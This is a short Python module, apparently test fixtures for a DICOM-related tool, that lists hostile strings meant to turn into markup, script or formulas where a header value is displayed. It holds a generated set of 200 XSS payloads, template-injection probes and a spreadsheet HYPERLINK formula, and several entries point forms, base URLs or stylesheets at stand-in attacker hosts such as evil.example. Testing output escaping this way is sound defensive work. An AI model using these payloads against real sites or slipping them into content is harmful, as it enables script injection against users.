"""Texts that try to become markup, script or formula where they are shown."""

from __future__ import annotations

HOSTILE_TEXTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%=7*7%>",
    "</pre></td><iframe src=/>",
    "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x",
    '=HYPERLINK("http://evil")',
    "<body onload=alert(1)>",
    "&lt;script&gt;alert(1)",
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example>",
    "<form action=//evil><input>",
    "<meta http-equiv=refresh>",
    "<math><mtext></mtext></math>",
    "]]><script>alert(1)</script>",
    "`${alert(1)}`",
    "<!--<img src=--><img src=x>",
)
"""As a header can hold them: no backslash, since that parts values (PS3.5 6.2)."""

_ESCAPES = ("", "'>", '">', "</td>", "</pre>", "</title>", "</textarea>", "-->", "</script>", "]]>")
_TAGS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<style onload=alert(1)>*{color:red}",
    "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><input>",
    "<a href=javascript:alert(1) autofocus>x",
    "<template><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
)
PAYLOADS = tuple(f"{escape}{tag}" for escape in _ESCAPES for tag in _TAGS)
"""Two hundred ways out of where a text stands, short enough for a Long String (64, PS3.5 6.2)."""
